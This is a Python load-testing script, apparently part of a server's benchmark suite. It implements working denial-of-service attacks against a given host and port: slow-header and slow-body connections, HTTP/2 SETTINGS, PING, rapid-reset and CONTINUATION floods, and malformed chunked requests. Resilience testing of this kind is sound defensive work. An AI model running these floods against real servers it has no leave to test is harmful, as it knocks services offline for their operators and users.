#!/usr/bin/env python3
"""Hostile-client load for bench/hostile.sh: one attack, against one
address, for a bounded time. Standard library only (raw sockets, HTTP/2
frames written by hand), so the bench needs no extra packages.

usage: hostile_attack.py MODE HOST PORT COUNT SECONDS
modes: slow-header, slow-body, silent, h2-settings, h2-ping,
       h2-rapid-reset, h2-continuation, bad-chunk, idle-keepalive
Prints one line: "<mode> connections=<opened> closed_by_server=<n>
cpu=<seconds>", the last being this script's own user + system time.
"""
import asyncio
import resource
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# HPACK: :method GET, :scheme http, :path /, :authority t (literal,
# indexed name 1), all static-table encodings (RFC 7541 appendix A).
HEADERS_BLOCK = b"\x82\x86\x84\x41\x01t"
SETTINGS, PING, HEADERS, RST, CONTINUATION = 4, 6, 1, 3, 9

stats = {"opened": 0, "closed": 0}


async def connect(host, port):
    while True:
        try:
            r, w = await asyncio.open_connection(host, port)
            stats["opened"] += 1
            return r, w
        except OSError:
            await asyncio.sleep(0.2)


async def until_closed(r):
    """Reads and drops what the server sends; returns when it closes."""
    try:
        while await r.read(65536):
            pass
    except OSError:
        pass
    stats["closed"] += 1


async def slow(host, port, first, drip, deadline):
    while time.monotonic() < deadline:
        r, w = await connect(host, port)
        reader = asyncio.ensure_future(until_closed(r))
        try:
            w.write(first)
            while not reader.done() and time.monotonic() < deadline:
                await asyncio.sleep(1)
                if drip:
                    w.write(drip)
                    await w.drain()
        except OSError:
            pass
        w.close()
        reader.cancel()


async def flood(host, port, new_batcher, deadline):
    """One flooding connection at a time; `new_batcher()` makes the
    frame writer for each new connection."""
    while time.monotonic() < deadline:
        stream = [1]
        make_batch = new_batcher()
        r, w = await connect(host, port)
        reader = asyncio.ensure_future(until_closed(r))
        try:
            w.write(PREFACE + frame(SETTINGS, 0, 0))
            while not reader.done() and time.monotonic() < deadline:
                w.write(make_batch(stream))
                await w.drain()
        except OSError:
            pass
        w.close()
        reader.cancel()
        await asyncio.sleep(0.05)


def rapid_reset(stream):
    out = b""
    for _ in range(50):
        s = stream[0]
        stream[0] = s + 2 if s < 2**31 - 3 else 1
        out += frame(HEADERS, 0x5, s, HEADERS_BLOCK) + frame(RST, 0, s, struct.pack(">I", 8))
    return out


def continuation_opener():
    started = [False]

    def batch(stream):
        out = b""
        if not started[0]:
            out = frame(HEADERS, 0x1, 1, HEADERS_BLOCK)
            started[0] = True
        # Literal header without indexing, new name: x-a: bbbb...
        field = b"\x00\x03x-a\x7f\x00" + b"b" * 127
        return out + frame(CONTINUATION, 0, 1, field) * 50

    return batch


async def idle_keepalive(host, port, deadline):
    """One request, then the connection stays open and quiet."""
    r, w = await connect(host, port)
    try:
        w.write(b"GET /api/x HTTP/1.1\r\nHost: t\r\n\r\n")
        await asyncio.wait_for(r.read(4096), 10)
        await asyncio.sleep(max(0, deadline - time.monotonic()))
    except (OSError, asyncio.TimeoutError):
        pass
    w.close()


async def bad_chunk(host, port, deadline):
    req = b"POST /api/f HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\nG\r\nhello\r\n0\r\n\r\n"
    while time.monotonic() < deadline:
        r, w = await connect(host, port)
        try:
            w.write(req)
            await asyncio.wait_for(r.read(4096), 2)
        except (OSError, asyncio.TimeoutError):
            pass
        w.close()
        await asyncio.sleep(0.01)


async def main():
    mode, host, port, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    deadline = time.monotonic() + seconds
    if mode == "slow-header":
        job = lambda: slow(host, port, b"GET /api/x HTTP/1.1\r\nHost: t\r\n", b"X-a: b\r\n", deadline)
    elif mode == "slow-body":
        job = lambda: slow(host, port, b"POST /api/echo HTTP/1.1\r\nHost: t\r\nContent-Length: 1000000\r\n\r\n", b"x", deadline)
    elif mode == "silent":
        job = lambda: slow(host, port, b"", b"", deadline)
    elif mode == "h2-settings":
        job = lambda: flood(host, port, lambda: lambda s: frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64") * 100, deadline)
    elif mode == "h2-ping":
        job = lambda: flood(host, port, lambda: lambda s: frame(PING, 0, 0, b"\x00" * 8) * 100, deadline)
    elif mode == "h2-rapid-reset":
        job = lambda: flood(host, port, lambda: rapid_reset, deadline)
    elif mode == "h2-continuation":
        job = lambda: flood(host, port, continuation_opener, deadline)
    elif mode == "idle-keepalive":
        job = lambda: idle_keepalive(host, port, deadline)
    elif mode == "bad-chunk":
        job = lambda: bad_chunk(host, port, deadline)
    else:
        sys.exit(f"unknown mode {mode}")
    tasks = []
    for _ in range(count):
        tasks.append(asyncio.ensure_future(job()))
        if mode in ("slow-header", "slow-body", "silent", "idle-keepalive"):
            await asyncio.sleep(0.001)
    try:
        await asyncio.wait_for(asyncio.gather(*tasks, return_exceptions=True), seconds + 5)
    except asyncio.TimeoutError:
        pass
    usage = resource.getrusage(resource.RUSAGE_SELF)
    cpu = usage.ru_utime + usage.ru_stime
    print(f"{mode} connections={stats['opened']} closed_by_server={stats['closed']} cpu={cpu:.2f}")


asyncio.run(main())
